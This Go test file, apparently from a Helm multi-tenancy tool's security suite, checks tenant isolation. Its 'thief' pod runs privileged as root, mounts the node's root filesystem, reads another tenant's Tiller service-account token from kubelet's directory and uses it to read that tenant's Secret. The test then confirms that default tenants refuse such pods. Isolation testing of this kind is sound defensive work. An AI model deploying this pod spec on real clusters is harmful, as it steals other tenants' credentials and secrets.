package attack

import (
	"context"
	"fmt"
	"strings"
	"testing"

	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/client-go/kubernetes"
	"k8s.io/client-go/rest"

	"helm-tenant/test/harness"
)

// TestNodeToNeighbour makes a complete attack from a privileged pod to another tenant's
// deployer: the pod reads the token of the other's Tiller from the node's disk, and with it the
// other's Secrets. A tenant with podSecurity: privileged is the control; in a tenant as init
// makes it, the pod is refused in every way of creating it.
func TestNodeToNeighbour(t *testing.T) {
	p := newProver(t)
	for _, args := range [][]string{
		{"node-victim", "--engine", "tiller", "--namespaces", "nodev1"},
		{"node-open", "--engine", "impersonation", "--namespaces", "nodeo1", "--pod-security", "privileged", "--accept-risk", "node-access"},
		{"node-held", "--engine", "impersonation", "--namespaces", "nodeh1"},
	} {
		if _, err := p.helmTenant(t.Context(), append([]string{"init", "--create-namespaces"}, args...)...); err != nil {
			t.Fatalf("init %v: %v", args, err)
		}
	}
	secret := &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "goods"}, StringData: map[string]string{"password": password}}
	if _, err := p.root.CoreV1().Secrets("nodev1").Create(t.Context(), secret, metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
	thief := p.thief(t)

	pods := p.deployer(t, "node-open").CoreV1().Pods("nodeo1")
	p.settledIn(t, "nodeo1")
	if _, err := pods.Create(t.Context(), thief, metav1.CreateOptions{}); err != nil {
		t.Fatalf("the control, with podSecurity: privileged: %v", err)
	}
	token := ""
	if err := harness.Await(t.Context(), "the pod to read a token", func(ctx context.Context) (bool, error) {
		text, err := pods.GetLogs(thief.Name, &corev1.PodLogOptions{}).DoRaw(ctx)
		token = strings.TrimSpace(string(text))
		return strings.Count(token, ".") == 2, err
	}); err != nil {
		t.Fatalf("%v: it printed %q", err, token)
	}
	config := p.cluster.Config(t, "nobody")
	config = rest.AnonymousClientConfig(config)
	config.BearerToken = token
	stolen, err := kubernetes.NewForConfigOrDie(config).CoreV1().Secrets("nodev1").Get(t.Context(), "goods", metav1.GetOptions{})
	if err != nil || string(stolen.Data["password"]) != password {
		t.Fatalf("the control, with podSecurity: privileged: the stolen token does not read the neighbour's Secret: %v", err)
	}

	p.settledIn(t, "nodeh1")
	held := p.deployer(t, "node-held").CoreV1().Pods("nodeh1")
	if _, err := held.Create(t.Context(), thief, metav1.CreateOptions{}); !apierrors.IsForbidden(err) || !strings.Contains(err.Error(), "violates PodSecurity") {
		t.Errorf("as init makes a tenant: %v", err)
	}
	p.refusesMade(t, "node-held", "nodeh1", thief)
}

// thief returns a pod that prints the token of the victim's Tiller from the node's disk. The
// attacker would list the folder; the test knows its name.
func (p *prover) thief(t *testing.T) *corev1.Pod {
	t.Helper()
	var path string
	if err := harness.Await(t.Context(), "the victim's Tiller to run", func(ctx context.Context) (bool, error) {
		pods, err := p.root.CoreV1().Pods("node-victim-tiller").List(ctx, metav1.ListOptions{LabelSelector: "app=helm,name=tiller"})
		if err != nil || len(pods.Items) == 0 || pods.Items[0].Status.Phase != corev1.PodRunning {
			return false, err
		}
		pod := pods.Items[0]
		for _, volume := range pod.Spec.Volumes {
			if volume.Projected != nil {
				path = fmt.Sprintf("/node/var/lib/kubelet/pods/%s/volumes/kubernetes.io~projected/%s/token", pod.UID, volume.Name)
			}
		}
		return path != "", nil
	}); err != nil {
		t.Fatal(err)
	}
	root, yes := int64(0), true
	return &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: "thief"}, Spec: corev1.PodSpec{
		RestartPolicy: corev1.RestartPolicyNever,
		Volumes:       []corev1.Volume{{Name: "node", VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/"}}}},
		Containers: []corev1.Container{{Name: "main", Image: pauseImage, Args: []string{"cat", path},
			SecurityContext: &corev1.SecurityContext{Privileged: &yes, RunAsUser: &root},
			VolumeMounts:    []corev1.VolumeMount{{Name: "node", MountPath: "/node"}}}}}}
}

// settledIn waits until the deployer may act in a new namespace and pods have their
// account there.
func (p *prover) settledIn(t *testing.T, namespace string) {
	t.Helper()
	if err := harness.Await(t.Context(), "the default account of "+namespace, func(ctx context.Context) (bool, error) {
		_, err := p.root.CoreV1().ServiceAccounts(namespace).Get(ctx, "default", metav1.GetOptions{})
		return err == nil, err
	}); err != nil {
		t.Fatal(err)
	}
	if err := harness.Settle(t.Context(), p.root, metav1.NamespaceDefault); err != nil {
		t.Fatal(err)
	}
}

// refusesMade has every kind that makes pods make this one: the maker may be stored,
// and none of its pods may be.
func (p *prover) refusesMade(t *testing.T, tenant, namespace string, pod *corev1.Pod) {
	t.Helper()
	client := p.deployer(t, tenant)
	template := corev1.PodTemplateSpec{ObjectMeta: metav1.ObjectMeta{Labels: map[string]string{"app": "thief"}}, Spec: *pod.Spec.DeepCopy()}
	ended := template.DeepCopy()
	template.Spec.RestartPolicy = corev1.RestartPolicyAlways
	makers := makersOf(template, *ended)
	for kind, create := range makers {
		if err := create(t.Context(), client, namespace); err != nil {
			t.Errorf("%s: %v", kind, err)
		}
	}
	refusals := map[string]bool{}
	if err := harness.Await(t.Context(), "the makers of pods to be refused theirs", func(ctx context.Context) (bool, error) {
		events, err := p.root.CoreV1().Events(namespace).List(ctx, metav1.ListOptions{})
		if err != nil {
			return false, err
		}
		for _, event := range events.Items {
			if event.Reason == "FailedCreate" && strings.Contains(event.Message, "violates PodSecurity") {
				refusals[event.InvolvedObject.Kind] = true
			}
		}
		return len(refusals) == len(makers), nil
	}); err != nil {
		t.Errorf("%v: refused are the pods of %v", err, refusals)
	}
	pods, err := p.root.CoreV1().Pods(namespace).List(t.Context(), metav1.ListOptions{})
	if err != nil || len(pods.Items) > 0 {
		t.Errorf("%d pods were made: %v", len(pods.Items), err)
	}
}
